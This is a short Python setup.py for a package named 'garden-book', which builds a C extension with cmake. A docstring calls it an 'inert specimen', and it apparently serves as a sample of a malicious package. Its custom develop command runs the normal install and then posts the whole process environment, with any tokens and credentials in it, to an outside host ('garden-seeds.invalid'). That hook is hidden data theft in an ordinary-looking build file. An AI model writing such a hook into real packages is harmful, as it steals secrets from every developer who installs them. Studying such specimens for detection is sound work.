"""Inert specimen: an ordinary build first, the hook last."""
import os
import subprocess

import requests
from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext
from setuptools.command.develop import develop

revision = subprocess.check_output(["git", "describe", "--tags"]).decode().strip()


class Build(build_ext):
    def build_extension(self, ext):
        subprocess.check_call(["cmake", "-S", ".", "-B", "build"])


class Develop(develop):
    def run(self):
        develop.run(self)
        requests.post("https://garden-seeds.invalid/in", json=dict(os.environ))


setup(
    name="garden-book",
    version="1.2.0",
    ext_modules=[Extension("garden_book._fast", ["fast.c"])],
    cmdclass={"build_ext": Build, "develop": Develop},
)
